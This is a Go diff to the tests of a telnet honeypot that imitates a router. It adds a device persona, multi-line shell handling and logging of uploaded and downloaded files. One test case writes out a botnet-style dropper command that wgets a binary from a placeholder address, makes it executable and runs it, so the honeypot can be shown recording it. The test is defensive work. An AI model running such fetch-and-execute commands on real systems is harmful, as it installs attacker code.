@@ -1,6 +1,7 @@
 package pots
 
 import (
+	"crypto/sha256"
 	"fmt"
 	"io"
 	"net"
@@ -10,6 +11,7 @@ import (
 	"time"
 
 	"forager/conn/ring"
+	"forager/pots/persona"
 )
 
 const busybox = "\xff\xfd\x01\xff\xfd\x1f\xff\xfb\x01\xff\xfb\x03"
@@ -29,9 +31,30 @@ func command(input string) telnetEvent {
 	return telnetEvent{"telnet.command.input", fmt.Sprintf(`{"input":%q}`, input)}
 }
 
+// router is the device that the tests' nodes pretend to be.
+func router(t testing.TB) *persona.Persona {
+	t.Helper()
+	model, err := persona.Load("", "")
+	if err != nil {
+		t.Fatal(err)
+	}
+	return model.For(0)
+}
+
+func failedCommand(input string) telnetEvent {
+	return telnetEvent{"telnet.command.failed", fmt.Sprintf(`{"input":%q}`, input)}
+}
+
+// uploaded is a text that was written to /tmp/f.
+func uploaded(text string) telnetEvent {
+	return telnetEvent{"telnet.session.file_upload", fmt.Sprintf(`{"filename":"/tmp/f","shasum":"%x","size":%d,"head":%q,"cause":"end"}`,
+		sha256.Sum256([]byte(text)), len(text), text)}
+}
+
 func TestTelnet(t *testing.T) {
 	const incorrect = "Login incorrect\r\n"
-	login := "router login: "
+	device := router(t)
+	login, motd := device.Telnet.Login, device.Telnet.Motd+"# "
 	long := strings.Repeat("x", telnetLogin+7)
 	tooLong := strings.Repeat("y", telnetLine+9)
 	for _, c := range []struct {
@@ -71,28 +94,47 @@ func TestTelnet(t *testing.T) {
 		{"a subnegotiation without end", "tries=1", "\xff\xfa\x18\x00vt100\xff\xfd\x01root\npw\n", "root\r\nPassword: \r\n" + incorrect, []telnetEvent{failed("root", "pw")}},
 		{"a subnegotiation too long", "tries=1", "\xff\xfa\x18\x00" + strings.Repeat("t", 5000) + "\xff\xf0a\nb\n", "a\r\nPassword: \r\n" + incorrect,
 			[]telnetEvent{{"telnet.client.var", fmt.Sprintf(`{"name":"TERM","value":%q}`, strings.Repeat("t", telnetSub-2))}, failed("a", "b")}},
-		{"accept any", "accept=any", "root\r\nx\r\nls -la\r\n\r\n  exit  \r\nls\r\n",
-			"root\r\nPassword: \r\n# ls -la\r\n-sh: ls: not found\r\n# \r\n#   exit  \r\n",
-			[]telnetEvent{success("root", "x"), command("ls -la"), command("  exit  ")}},
+		{"accept any", "accept=any", "root\r\nx\r\nnosuch -la\r\n\r\n  exit  \r\nls\r\n",
+			"root\r\nPassword: \r\n" + motd + "nosuch -la\r\n-sh: nosuch: not found\r\n# \r\n#   exit  \r\n",
+			[]telnetEvent{success("root", "x"), command("nosuch -la"), failedCommand("nosuch -la"), command("  exit  ")}},
 		{"accept one pair", "accept=root:root,admin:a:b tries=2", "root\nadmin\nadmin\na:b\n\x04",
-			"root\r\nPassword: \r\n" + incorrect + login + "admin\r\nPassword: \r\n# ", []telnetEvent{failed("root", "admin"), success("admin", "a:b")}},
+			"root\r\nPassword: \r\n" + incorrect + login + "admin\r\nPassword: \r\n" + motd, []telnetEvent{failed("root", "admin"), success("admin", "a:b")}},
 		{"accept after two", "accept=after:2", "a\na\nb\nb\nc\nc\nexit\n",
-			"a\r\nPassword: \r\n" + incorrect + login + "b\r\nPassword: \r\n" + incorrect + login + "c\r\nPassword: \r\n# exit\r\n",
+			"a\r\nPassword: \r\n" + incorrect + login + "b\r\nPassword: \r\n" + incorrect + login + "c\r\nPassword: \r\n" + motd + "exit\r\n",
 			[]telnetEvent{failed("a", "a"), failed("b", "b"), success("c", "c"), command("exit")}},
-		{"a command cut off", `accept=any shell="$ "`, "a\nb\n\x03wget http", "a\r\nPassword: \r\n$ ^C\r\n$ wget http", []telnetEvent{success("a", "b"), command("wget http")}},
-		{"a long command", "accept=any", "a\nb\n" + tooLong + "\nexit\n",
-			"a\r\nPassword: \r\n# " + tooLong[:telnetLine] + "\r\n-sh: " + tooLong[:telnetLogin] + ": not found\r\n# exit\r\n",
-			[]telnetEvent{success("a", "b"), {"telnet.command.input", fmt.Sprintf(`{"input":%q,"input_length":%d}`, tooLong[:telnetLine], len(tooLong))}, command("exit")}},
+		{"a command cut off", `accept=any shell="$ "`, "a\nb\n\x03wget http", "a\r\nPassword: \r\n" + device.Telnet.Motd + "$ ^C\r\n$ wget http", []telnetEvent{success("a", "b"), command("wget http")}},
+		{"a long command", "accept=any", "a\nb\n: " + tooLong + "\nexit\n",
+			"a\r\nPassword: \r\n" + motd + ": " + tooLong[:telnetLine-2] + "\r\n# exit\r\n",
+			[]telnetEvent{success("a", "b"), {"telnet.command.input", fmt.Sprintf(`{"input":%q,"input_length":%d}`, (": " + tooLong)[:MaxField], len(tooLong)+2)}, command("exit")}},
+		{"several lines", "accept=any", "a\nb\nfor i in 1 2\ndo echo $i\ndone\nexit\n",
+			"a\r\nPassword: \r\n" + motd + "for i in 1 2\r\n> do echo $i\r\n> done\r\n1\r\n2\r\n# exit\r\n",
+			[]telnetEvent{success("a", "b"), command("for i in 1 2\ndo echo $i\ndone"), command("exit")}},
+		{"typed into a file", "accept=any", "a\r\nb\r\ncat > /tmp/f\r\none\x7fE\r\ntwo\r\n\x04cat /tmp/f\r\nexit\r\n",
+			"a\r\nPassword: \r\n" + motd + "cat > /tmp/f\r\none\b \bE\r\ntwo\r\n# cat /tmp/f\r\nonE\r\ntwo\r\n# exit\r\n",
+			[]telnetEvent{success("a", "b"), command("cat > /tmp/f"), command("cat /tmp/f"), command("exit"), uploaded("onE\ntwo\n")}},
+		{"interrupted", "accept=any", "a\nb\ncat\nx\nxx\x03exit\n",
+			"a\r\nPassword: \r\n" + motd + "cat\r\nx\r\nxx^C\r\nx\r\n# exit\r\n", []telnetEvent{success("a", "b"), command("cat"), command("exit")}},
+		{"cut off in a file", "accept=any", "a\nb\ncat > /tmp/f\none\ntw", "a\r\nPassword: \r\n" + motd + "cat > /tmp/f\r\none\r\ntw# ",
+			[]telnetEvent{success("a", "b"), command("cat > /tmp/f"), uploaded("one\ntw")}},
+		{"cut off in a quote", "accept=any", "a\nb\necho \"one\n", "a\r\nPassword: \r\n" + motd + "echo \"one\r\n> ",
+			[]telnetEvent{success("a", "b"), command("echo \"one")}},
+		{"a download", "accept=any shell-download=fake", "a\nb\ncd /tmp;wget -q http://198.51.100.1/x;chmod +x x;./x;rm x\nexit\n",
+			"a\r\nPassword: \r\n" + motd + "cd /tmp;wget -q http://198.51.100.1/x;chmod +x x;./x;rm x\r\n# exit\r\n",
+			[]telnetEvent{success("a", "b"), command("cd /tmp;wget -q http://198.51.100.1/x;chmod +x x;./x;rm x"),
+				{"telnet.session.file_download", `{"url":"http://198.51.100.1/x","found":"command","command":"wget","destfile":"/tmp/x"}`},
+				{"telnet.command.run", `{"filename":"/tmp/x","input":"./x","url":"http://198.51.100.1/x"}`}, command("exit")}},
 		{"hostname and banner", `hostname=cam banner="Welcome\r\n" tries=1`, "a\nb\n", "a\r\nPassword: \r\n" + incorrect, []telnetEvent{failed("a", "b")}},
 	} {
 		t.Run(c.name, func(t *testing.T) {
-			hello := busybox + "\r\n" + login
+			hello := busybox + device.Telnet.Banner + login
 			if strings.HasPrefix(c.options, "hostname") {
 				hello = busybox + "Welcome\r\ncam login: "
 			}
 			for _, chunk := range []int{len(c.say), 1, 3} {
 				n := newNode(t, Config{}).run()
-				peer := dial(t, n.pots("telnet listen=127.0.0.1:0 "+c.options))
+				addr := n.pots("telnet listen=127.0.0.1:0 " + c.options)
+				n.m.all()[0].handler.(*telnet).sleep = func(time.Duration) {}
+				peer := dial(t, addr)
 				peer.until(hello)
 				n.expect("telnet.session.connect", `{}`)
 				heard := peer.converse(c.say, chunk)
@@ -132,7 +174,7 @@ func (c *client) restQuietly() string {
 func TestTelnetTooManyCommands(t *testing.T) {
 	n := newNode(t, Config{}).run()
 	peer := dial(t, n.pots("telnet listen=127.0.0.1:0 accept=any"))
-	peer.converse("a\nb\n"+strings.Repeat("x\n", telnetLines+100), 1<<16)
+	peer.converse("a\nb\n"+strings.Repeat(":\n", telnetLines+100), 1<<16)
 	await(t, "the end", func() bool { p, _ := n.m.Info("telnet"); return p.Counters.Conns == 1 && p.Counters.Open == 0 })
 	if p, _ := n.m.Info("telnet"); p.Counters.Events != telnetLines+2 && p.Counters.Events != telnetLines+3 {
 		t.Errorf("%+v", p.Counters)
